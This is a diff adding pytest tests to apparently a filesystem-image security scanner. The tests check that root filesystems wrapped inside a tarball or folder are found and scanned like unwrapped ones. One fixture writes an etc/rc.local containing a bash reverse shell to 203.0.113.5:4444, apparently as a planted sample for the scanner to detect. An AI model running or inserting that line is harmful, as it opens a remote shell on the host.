@@ -6,6 +6,7 @@ import gzip
 import io
 import os
 import stat
+import subprocess
 import tarfile
 import zipfile
 from pathlib import Path
@@ -284,3 +285,52 @@ def test_full_unpack_disk_is_an_environment_problem(tmp_path: Path, monkeypatch:
     monkeypatch.setattr(os, "open", full_disk)
     with pytest.raises(EnvironmentProblem, match="set TMPDIR"):
         open_image(archive)
+
+
+# --- wrapped root filesystems (issue 14: "wrapped tarballs lose the root") ------------------------
+
+
+def _wrapped_tar(tree: Path, out: Path, top: str) -> Path:
+    """What ``tar czf out top/`` gives for a tree whose folder is called ``top``."""
+    subprocess.run(["tar", "-C", str(tree), "--numeric-owner", "--transform", f"s,^\\.,{top},", "-czf", str(out), "."],
+                   check=True)
+    return out
+
+
+def _debian_like(root: Path) -> Path:
+    tree = _tree(root)
+    (tree / "var/lib/dpkg/info").mkdir(parents=True)
+    (tree / "var/lib/dpkg/status").write_text("Package: debianutils\nStatus: install ok installed\nVersion: 5.7\n\n")
+    (tree / "var/lib/dpkg/info/debianutils.list").write_text("/usr/bin/tool\n")
+    (tree / "etc/rc.local").write_text("#!/bin/sh\nbash -i >& /dev/tcp/203.0.113.5/4444 0>&1\n")
+    return tree
+
+
+@pytest.mark.parametrize("top", ["rootfs", "./build/rootfs", "cms-backup-2026/rootfs"])
+def test_wrapped_root_is_found_and_scanned_like_the_unwrapped_one(tmp_path: Path, top: str) -> None:
+    tree = _debian_like(tmp_path / "tree")
+    wrapped = _wrapped_tar(tree, tmp_path / "wrapped.tar.gz", top)
+    plain = make_tar(tree, tmp_path / "plain.tar.gz")
+    assert _summary(wrapped) == _summary(plain)
+    with open_image(wrapped) as image:
+        assert image.resolve("bin/tool") == "usr/bin/tool"  # links resolve against the found root
+        assert any("the root filesystem is the folder" in w for w in image.warnings)
+    a, b = scan_image(wrapped, workers=1), scan_image(plain, workers=1)
+    assert [f.to_json() for f in a.findings] == [f.to_json() for f in b.findings]
+    assert a.inventory.packages == b.inventory.packages and a.inventory.packages
+
+
+def test_wrapped_root_in_a_directory_and_what_lies_beside_it(tmp_path: Path) -> None:
+    backup = tmp_path / "backup"
+    _debian_like(backup / "rootfs")
+    (backup / "manifest.txt").write_text("made by the vendor\n")
+    with open_image(backup) as image:
+        assert "usr/bin/tool" in image.entries and "manifest.txt" not in image.entries
+        assert any("1 entries beside it are not part of it" in w and "manifest.txt" in w for w in image.warnings)
+
+
+def test_a_root_is_not_moved_into_a_chroot_it_holds(tmp_path: Path) -> None:
+    tree = _tree(tmp_path / "tree")
+    _debian_like(tree / "srv/chroot/old")
+    with open_image(tree) as image:  # the top has etc/ and usr/: it is the root
+        assert "srv/chroot/old/etc/rc.local" in image.entries and "etc/hostname" in image.entries
